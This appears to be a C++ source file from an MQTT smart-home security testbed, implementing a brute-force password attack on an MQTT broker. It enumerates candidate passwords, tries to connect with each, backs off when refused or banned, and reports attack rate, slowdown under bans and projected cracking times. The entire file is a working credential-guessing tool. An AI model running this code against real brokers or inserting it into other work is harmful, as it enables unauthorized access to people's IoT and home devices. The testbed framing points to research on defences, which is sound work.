#include "mqttbed/attacks/brute_force.hpp"

#include <cmath>
#include <limits>
#include <set>
#include <stdexcept>
#include <thread>

#include "mqttbed/smarthome/runtime.hpp"
#include "mqttbed/util/time.hpp"

namespace mqttbed::attacks {

namespace {

std::uint64_t checked_pow(std::uint64_t base, std::size_t exp) {
    std::uint64_t r = 1;
    for (std::size_t i = 0; i < exp; ++i) {
        if (r > std::numeric_limits<std::uint64_t>::max() / base)
            throw std::invalid_argument("candidate space exceeds 2^64");
        r *= base;
    }
    return r;
}

}  // namespace

CandidateSpace::CandidateSpace(std::string alphabet, std::size_t min_length, std::size_t max_length)
    : alphabet_(std::move(alphabet)), min_length_(min_length), max_length_(max_length) {
    if (alphabet_.empty()) throw std::invalid_argument("alphabet must not be empty");
    if (std::set<char>(alphabet_.begin(), alphabet_.end()).size() != alphabet_.size())
        throw std::invalid_argument("alphabet characters must be distinct");
    if (min_length_ == 0 || min_length_ > max_length_)
        throw std::invalid_argument("lengths must satisfy 1 <= min_length <= max_length");
    for (auto len = min_length_; len <= max_length_; ++len) {
        auto n = checked_pow(alphabet_.size(), len);
        if (size_ > std::numeric_limits<std::uint64_t>::max() - n)
            throw std::invalid_argument("candidate space exceeds 2^64");
        size_ += n;
    }
}

std::string CandidateSpace::at(std::uint64_t index) const {
    if (index >= size_) throw std::out_of_range("candidate index past end of space");
    const std::uint64_t base = alphabet_.size();
    auto len = min_length_;
    for (;; ++len) {
        auto n = checked_pow(base, len);
        if (index < n) break;
        index -= n;
    }
    std::string out(len, alphabet_[0]);
    for (std::size_t pos = len; pos-- > 0;) {
        out[pos] = alphabet_[index % base];
        index /= base;
    }
    return out;
}

std::optional<std::uint64_t> CandidateSpace::index_of(const std::string& candidate) const {
    if (candidate.size() < min_length_ || candidate.size() > max_length_) return std::nullopt;
    std::uint64_t index = 0;
    for (auto len = min_length_; len < candidate.size(); ++len) index += checked_pow(alphabet_.size(), len);
    std::uint64_t offset = 0;
    for (char c : candidate) {
        auto digit = alphabet_.find(c);
        if (digit == std::string::npos) return std::nullopt;
        offset = offset * alphabet_.size() + digit;
    }
    return index + offset;
}

double space_of_length(std::size_t alphabet_size, std::size_t length) {
    return std::pow(static_cast<double>(alphabet_size), static_cast<double>(length));
}

void BruteForceConfig::validate() const {
    CandidateSpace(alphabet, min_length, max_length);
    if (username.empty()) throw std::invalid_argument("username must not be empty");
    if (max_rate < 0) throw std::invalid_argument("max_rate must be non-negative");
    if (time_budget_s < 0) throw std::invalid_argument("time_budget must be non-negative");
    if (ban_streak == 0) throw std::invalid_argument("ban_streak must be positive");
}

BruteForceResult brute_force(const BruteForceConfig& config, const net::Endpoint& broker,
                             smarthome::StopToken* stop) {
    config.validate();
    CandidateSpace space(config.alphabet, config.min_length, config.max_length);
    BruteForceResult result;
    auto& report = result.report;
    report.kind = "brute";
    ReportClock clock(report);

    using SteadyClock = std::chrono::steady_clock;
    const auto start = SteadyClock::now();
    const auto slot = config.max_rate > 0 ? std::chrono::duration_cast<SteadyClock::duration>(
                                                std::chrono::duration<double>(1.0 / config.max_rate))
                                          : SteadyClock::duration::zero();
    const auto backoff = std::chrono::duration_cast<SteadyClock::duration>(
        std::chrono::duration<double>(config.ban_backoff_s));
    std::optional<SteadyClock::time_point> budget_end;
    if (config.time_budget_s > 0)
        budget_end = start + std::chrono::duration_cast<SteadyClock::duration>(
                                 std::chrono::duration<double>(config.time_budget_s));

    auto wait_until = [&](SteadyClock::time_point t) {
        if (stop) return stop->sleep_until(t);
        std::this_thread::sleep_until(t);
        return true;
    };

    std::uint64_t cursor = config.start_index;
    std::uint64_t connects = 0;
    std::size_t streak = 0;
    std::size_t consecutive_errors = 0;
    bool rate_limited = false;
    std::optional<double> first_ban_at;
    std::uint64_t attempts_before_ban = 0;
    auto next_slot = start;
    std::string outcome;

    while (true) {
        if (cursor >= space.size()) {
            outcome = "exhausted";
            break;
        }
        if (budget_end && SteadyClock::now() >= *budget_end) {
            outcome = "budget-exhausted";
            break;
        }
        if (stop && stop->stop_requested()) {
            outcome = "stopped";
            break;
        }
        if (slot.count() > 0) {
            if (!wait_until(next_slot)) {
                outcome = "stopped";
                break;
            }
            next_slot += slot;
        }

        auto candidate = space.at(cursor);
        net::ClientOptions opts;
        opts.broker = broker;
        opts.client_id = config.client_id_prefix + "-" + std::to_string(connects++);
        opts.credentials = wire::Credentials{config.username, wire::to_bytes(candidate)};
        opts.bind_host = config.bind_host;
        opts.connect_timeout = config.connect_timeout;
        net::MqttClient client(opts);

        std::uint8_t code;
        try {
            code = client.connect().return_code;
            consecutive_errors = 0;
        } catch (const std::exception&) {
            ++result.network_errors;
            if (++consecutive_errors > config.network_retries) {
                outcome = "network-error";
                break;
            }
            continue;
        }

        if (code == 5) {
            ++result.refused;
            if (++streak >= config.ban_streak) rate_limited = true;
            if (!first_ban_at) {
                first_ban_at = util::seconds_between(start, SteadyClock::now());
                attempts_before_ban = result.attempts;
            }
            auto resume_at = SteadyClock::now() + backoff;
            if (!wait_until(resume_at)) {
                outcome = "stopped";
                break;
            }
            next_slot = std::max(next_slot, SteadyClock::now());
            continue;
        }
        streak = 0;
        ++result.attempts;
        ++cursor;
        if (code == 0) {
            client.disconnect();
            result.found = candidate;
            outcome = "found";
            break;
        }
    }

    result.elapsed_s = util::seconds_between(start, SteadyClock::now());
    result.rate = result.elapsed_s > 0 ? static_cast<double>(result.attempts) / result.elapsed_s : 0;
    if (first_ban_at && *first_ban_at > 0) {
        result.rate_before_ban = static_cast<double>(attempts_before_ban) / *first_ban_at;
    } else {
        result.rate_before_ban = result.rate;
    }
    result.degradation_factor = result.rate > 0 ? result.rate_before_ban / result.rate
                                                : std::numeric_limits<double>::infinity();
    result.projected_length = config.max_length + 1;
    result.projected_seconds = result.rate > 0
                                   ? space_of_length(config.alphabet.size(), result.projected_length) / result.rate
                                   : std::numeric_limits<double>::infinity();
    if (outcome != "found" && rate_limited) outcome = "rate-limited";
    result.outcome = outcome;
    result.resume_cursor = cursor;

    report.outcome = outcome;
    report.counters = {{"attempts", result.attempts}, {"refused", result.refused}, {"connects", connects}};
    report.errors = {{"network", result.network_errors}};
    report.details = {{"found", result.found ? nlohmann::json(*result.found) : nlohmann::json(nullptr)},
                      {"username", config.username},
                      {"alphabet_size", config.alphabet.size()},
                      {"elapsed_s", result.elapsed_s},
                      {"rate", result.rate},
                      {"rate_before_ban", result.rate_before_ban},
                      {"degradation_factor", result.degradation_factor},
                      {"projected_length", result.projected_length},
                      {"projected_seconds", result.projected_seconds},
                      {"resume_cursor", result.resume_cursor}};
    clock.finish();
    return result;
}

}  // namespace mqttbed::attacks
